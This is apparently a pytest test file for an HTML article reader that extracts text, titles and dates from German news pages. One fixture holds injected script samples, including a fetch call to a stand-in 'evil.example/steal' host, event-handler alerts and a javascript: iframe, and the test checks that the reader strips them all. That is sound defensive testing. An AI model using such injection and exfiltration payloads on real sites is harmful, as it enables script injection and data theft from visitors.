from __future__ import annotations

from pathlib import Path

import pytest

from chronik.errors import ChronikError
from chronik.readers import read_document

from .conftest import write

PAGE = """<!DOCTYPE html>
<html lang="de">
<head>
  <meta charset="utf-8">
  <title>Brückensanierung verzögert sich | Rheinblatt</title>
  <meta property="og:title" content="Brückensanierung verzögert sich">
  <meta property="article:published_time" content="2023-05-22T08:15:00+02:00">
  <meta name="author" content="Jana Wettstein">
</head>
<body>
  <nav><a href="/">Startseite</a> <a href="/politik">Politik</a></nav>
  <article>
    <h1>Brückensanierung verzögert sich</h1>
    <p>Die Sanierung der Rheinbrücke in Neuwied wird nach Angaben des Landesbetriebs
       Mobilität mindestens ein Jahr länger dauern als geplant.</p>
    <p>«Wir haben im Stahl deutlich mehr Schäden gefunden als erwartet», sagte die
       Projektleiterin am Montag. Die Kosten stiegen damit voraussichtlich um ein Drittel.</p>
    <p>Pendler müssen sich nach Angaben des Betriebs bis Ende 2025 auf Umleitungen
       einstellen. Die Opposition im Landtag verlangte eine Erklärung des Verkehrsministers.</p>
  </article>
  <footer>© Rheinblatt · Impressum · Datenschutz · Cookie-Einstellungen</footer>
</body>
</html>
"""

HOSTILE = """<html><head><title>Gemeinderat beschließt Haushalt</title>
<script>document.write('<p>Eingeschleust</p>'); fetch('https://evil.example/steal');</script>
<style>p { display: none }</style>
</head>
<body onload="alert('onload')">
<article>
<p>Der Gemeinderat von Kleinmachnow hat am Donnerstag den Haushalt für das kommende Jahr beschlossen.
Die Abstimmung fiel mit großer Mehrheit aus, nur zwei Ratsmitglieder stimmten dagegen.</p>
<img src="x" onerror="alert('onerror')">
<p>Der Kämmerer sprach von einem «soliden Zahlenwerk», das Investitionen in Schulen
und Radwege ermögliche. <iframe src="javascript:alert('iframe')"></iframe></p>
<script>alert('im Artikel')</script>
<p>Die Opposition kritisierte, dass die Gewerbesteuer erneut angehoben werde.</p>
</article>
</body></html>
"""


def test_main_text_title_and_date(tmp_path: Path) -> None:
    document = read_document(write(tmp_path / "bruecke.html", PAGE))
    assert str(document.date) == "2023-05-22"
    assert "Brückensanierung" in document.title
    assert document.text.startswith("Die Sanierung der Rheinbrücke") or "Die Sanierung der Rheinbrücke" in document.text
    assert "«Wir haben im Stahl deutlich mehr Schäden gefunden als erwartet»" in document.text
    assert "Impressum" not in document.text and "Startseite" not in document.text
    paragraphs = [document.block_text(block) for block in document.blocks]
    assert any(paragraph.startswith("Pendler müssen") for paragraph in paragraphs)


def test_hostile_html_yields_only_text(tmp_path: Path) -> None:
    document = read_document(write(tmp_path / "rat.htm", HOSTILE))
    assert "Haushalt für das kommende Jahr beschlossen" in document.text
    assert "Gewerbesteuer" in document.text
    for trace in ("alert", "script", "onerror", "onload", "fetch", "evil.example", "Eingeschleust", "javascript", "<", "display"):
        assert trace not in document.text
    assert document.date is None  # the page states no date; none is invented


def test_date_flag_wins_over_page_date(tmp_path: Path) -> None:
    document = read_document(write(tmp_path / "bruecke.html", PAGE), date="2023-05")
    assert str(document.date) == "2023-05"


def test_html_sniffed_without_extension(tmp_path: Path) -> None:
    document = read_document(write(tmp_path / "seite", PAGE))
    assert "Rheinbrücke" in document.text


def test_page_without_article_text(tmp_path: Path) -> None:
    path = write(tmp_path / "leer.html", "<html><head><title>Nichts</title></head><body><div></div><script>alert(1)</script></body></html>")
    with pytest.raises(ChronikError) as caught:
        read_document(path)
    assert caught.value.code == "E108"


def test_declared_charset_is_honoured_without_warning(tmp_path: Path, caplog) -> None:
    page = PAGE.replace('<meta charset="utf-8">', '<meta charset="iso-8859-15">').replace("©", "")
    with caplog.at_level("WARNING", logger="chronik.readers"):
        document = read_document(write(tmp_path / "alt.html", page.encode("iso-8859-15")))
    assert "Brückensanierung" in document.title and "Schäden" in document.text
    assert caplog.text == ""


def test_broken_parser_input_is_an_error_not_a_crash(tmp_path: Path, monkeypatch) -> None:
    import trafilatura

    from chronik.readers import iter_documents

    def explode(*args, **kwargs):
        raise ValueError("Dokument zu tief\nverschachtelt")

    monkeypatch.setattr(trafilatura, "bare_extraction", explode)
    write(tmp_path / "a.html", PAGE)
    write(tmp_path / "b.txt", "Der Kreistag tagt am Montag.\n")
    results = list(iter_documents(tmp_path))
    assert results[0][1].code == "E112" and "zu tief verschachtelt" in str(results[0][1])
    assert results[1][1].text == "Der Kreistag tagt am Montag."
